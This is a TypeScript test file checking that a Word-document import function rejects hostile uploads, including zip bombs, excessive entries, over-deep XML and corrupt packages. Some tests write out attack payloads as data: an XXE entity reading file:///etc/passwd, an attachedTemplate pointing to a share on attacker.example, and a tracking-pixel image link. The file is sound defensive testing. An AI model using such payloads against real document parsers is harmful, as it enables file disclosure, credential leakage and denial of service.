// Uploads that must be refused, each with its own GatewayError code and nothing read past the
// check that refuses it: not a zip, not a Word package, a zip bomb (real inflated bytes counted,
// declared sizes ignored), too many entries, a DTD, an external relationship other than a link.
import { strToU8, zipSync, type Zippable } from "fflate";
import { describe, expect, it } from "vitest";
import { GatewayError } from "../../../src/core/errors.ts";
import {
  DOCX_ENTRY_LIMIT,
  DOCX_EXPANDED_LIMIT_BYTES,
  DOCX_TEXT_LIMIT_CHARS,
  DOCX_XML_LIMIT_BYTES,
  extractDocx,
} from "../../../src/documents/import/index.ts";
import { MAX_XML_DEPTH } from "../../../src/ooxml/index.ts";
import { generateMarkdown } from "../../fixtures/gen-markdown.ts";
import { inflatingDocx, lieAboutSizes, renderedDocx, rewrite, zeroBomb } from "./docx-fixtures.ts";
import { hostileVariants } from "./hostile-variants.ts";

async function refusal(docx: Uint8Array): Promise<GatewayError> {
  const error = await extractDocx(docx).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(GatewayError);
  return error as GatewayError;
}

const ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

describe("extractDocx refuses hostile uploads", () => {
  it("bytes that are not a zip → UNSUPPORTED_MEDIA_TYPE", async () => {
    const error = await refusal(strToU8("%PDF-1.7 certainly not a word document"));
    expect(error.code).toBe("UNSUPPORTED_MEDIA_TYPE");
    expect(error.message).toMatch(/not a zip/);
  });

  it("a zip that is not an OOXML package → UNSUPPORTED_MEDIA_TYPE", async () => {
    const error = await refusal(zipSync({ "notes.txt": strToU8("hello") }));
    expect(error.code).toBe("UNSUPPORTED_MEDIA_TYPE");
    expect(error.message).toMatch(/Content_Types/);
  });

  it("an OOXML package whose main part is not a Word document → UNSUPPORTED_MEDIA_TYPE", async () => {
    const docx = await renderedDocx();
    const wrongType = rewrite(docx, {
      "[Content_Types].xml": (xml) => xml.replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"),
    });
    expect((await refusal(wrongType)).message).toMatch(/not a Word document/);
    const noMain = rewrite(docx, { "word/document.xml": null });
    expect((await refusal(noMain)).message).toMatch(/main document part word\/document.xml is missing/);
    const noRelationship = rewrite(docx, { "_rels/.rels": (xml) => xml.replace(/officeDocument"/, 'other"') });
    expect((await refusal(noRelationship)).message).toMatch(/no main document/);
  });

  it("a zip bomb (one entry inflating past 200 MB) → PAYLOAD_TOO_LARGE, whatever sizes it declares", async () => {
    const bomb = zeroBomb(DOCX_EXPANDED_LIMIT_BYTES + 1024 * 1024);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    // It claims to hold 100 bytes: only the bytes actually inflated count.
    const error = await refusal(lieAboutSizes(bomb, 100));
    expect(error.code).toBe("PAYLOAD_TOO_LARGE");
    expect(error.details).toEqual({ limit: DOCX_EXPANDED_LIMIT_BYTES });
  }, 30_000);

  it("the expanded bound counts every entry together", async () => {
    const docx = await renderedDocx();
    const error = await extractDocx(docx, { limits: { expandedBytes: 2_000 } }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "PAYLOAD_TOO_LARGE", details: { limit: 2_000 } });
  });

  it(`${DOCX_ENTRY_LIMIT + 1} entries → PAYLOAD_TOO_LARGE`, async () => {
    const files: Zippable = {};
    for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) files[`word/media/${i}.bin`] = new Uint8Array(0);
    const error = await refusal(zipSync(files));
    expect(error.code).toBe("PAYLOAD_TOO_LARGE");
    expect(error.details).toEqual({ limit: DOCX_ENTRY_LIMIT });
  });

  it("a DTD in document.xml → UNSUPPORTED_MEDIA_TYPE, before any XML parser sees it", async () => {
    const docx = rewrite(await renderedDocx(), {
      "word/document.xml": (xml) =>
        xml
          .replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">]>')
          .replace("Title", "&xxe;&lol;"),
    });
    const error = await refusal(docx);
    expect(error.code).toBe("UNSUPPORTED_MEDIA_TYPE");
    expect(error.message).toMatch(/word\/document.xml contains a DTD/);
  });

  it("an external attachedTemplate relationship → UNSUPPORTED_MEDIA_TYPE naming it", async () => {
    const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ATTACHED_TEMPLATE}" Target="file:///\\\\attacker.example\\share\\template.dotm" TargetMode="External"/></Relationships>`;
    const error = await refusal(rewrite(await renderedDocx(), { "word/_rels/settings.xml.rels": settingsRels }));
    expect(error.code).toBe("UNSUPPORTED_MEDIA_TYPE");
    expect(error.message).toContain("attachedTemplate");
  });

  it("an external linked image is refused too; external hyperlinks are what links are, and pass", async () => {
    const docx = await renderedDocx("A [link](https://example.com/page).\n");
    const linkedImage = rewrite(docx, {
      "word/_rels/document.xml.rels": (xml) =>
        xml.replace(
          "</Relationships>",
          '<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://tracker.example/pixel.png" TargetMode="External"/></Relationships>',
        ),
    });
    expect((await refusal(linkedImage)).message).toMatch(/external image relationship/);
    await expect(extractDocx(docx)).resolves.toMatchObject({ text: "A link.", markdown: "A [link](https://example.com/page).\n" });
  });

  it("a truncated package, an encrypted or unknown-method entry → UNSUPPORTED_MEDIA_TYPE", async () => {
    const docx = await renderedDocx();
    expect((await refusal(docx.subarray(0, docx.length - 30))).code).toBe("UNSUPPORTED_MEDIA_TYPE");
    const corrupt = docx.slice();
    // The first local header's compressed data: inflating garbage fails cleanly.
    corrupt.fill(0xff, 40, 120);
    expect((await refusal(corrupt)).code).toBe("UNSUPPORTED_MEDIA_TYPE");
  });
});

describe("extractDocx refuses issue 23's hostile parts, read as XML reads them", async () => {
  for (const variant of await hostileVariants()) {
    it(`${variant.what} → UNSUPPORTED_MEDIA_TYPE`, async () => {
      const error = await refusal(variant.docx);
      expect({ code: error.code, message: error.message }).toEqual({
        code: "UNSUPPORTED_MEDIA_TYPE",
        message: expect.stringMatching(variant.message),
      });
    });
  }
});

describe("extractDocx bounds the work an upload costs (issue 23, finding 4)", () => {
  it("a document.xml declared to inflate to 190 MB is refused before it is inflated: 413 xml_bytes", async () => {
    const error = await refusal(await inflatingDocx(190 * 1024 * 1024));
    expect(error.code).toBe("PAYLOAD_TOO_LARGE");
    expect(error.details).toEqual({ reason: "xml_bytes", limit: DOCX_XML_LIMIT_BYTES });
  });

  it("the same upload lying about its sizes is stopped by what is counted as it is parsed: 413 docx_text", async () => {
    const error = await refusal(lieAboutSizes(await inflatingDocx(190 * 1024 * 1024), 100));
    expect(error.code).toBe("PAYLOAD_TOO_LARGE");
    expect(error.details).toEqual({ reason: "docx_text", limit: DOCX_TEXT_LIMIT_CHARS });
  }, 30_000);

  it("XML past the XML bound, elements past the element bound, memory past the memory bound → 413 naming the bound", async () => {
    const docx = lieAboutSizes(await renderedDocx(), 1);
    const xml = await extractDocx(docx, { limits: { xmlBytes: 4_000 } }).catch((e: unknown) => e);
    expect(xml).toMatchObject({ code: "PAYLOAD_TOO_LARGE", details: { reason: "xml_bytes", limit: 4_000 } });
    const elements = await extractDocx(docx, { limits: { elements: 50 } }).catch((e: unknown) => e);
    expect(elements).toMatchObject({ code: "PAYLOAD_TOO_LARGE", details: { reason: "docx_elements", limit: 50 } });
    const memory = await extractDocx(docx, { limits: { memoryBytes: docx.length + 1_000 } }).catch((e: unknown) => e);
    expect(memory).toMatchObject({ code: "PAYLOAD_TOO_LARGE", details: { reason: "import_memory", limit: docx.length + 1_000 } });
  });

  it(`elements nested more than ${MAX_XML_DEPTH} deep → 413 xml_depth`, async () => {
    const deep = rewrite(await renderedDocx(), {
      "word/document.xml": (xml) =>
        xml.replace("<w:body>", `<w:body>${"<w:sdt>".repeat(MAX_XML_DEPTH + 1)}${"</w:sdt>".repeat(MAX_XML_DEPTH + 1)}`),
    });
    expect((await refusal(deep)).details).toEqual({ reason: "xml_depth", limit: MAX_XML_DEPTH });
  });

  it("the largest real documents pass well within every bound", async () => {
    const big = await renderedDocx(generateMarkdown(400_000, 3));
    const { text } = await extractDocx(big);
    expect(text.length).toBeGreaterThan(300_000);
  }, 60_000);
});
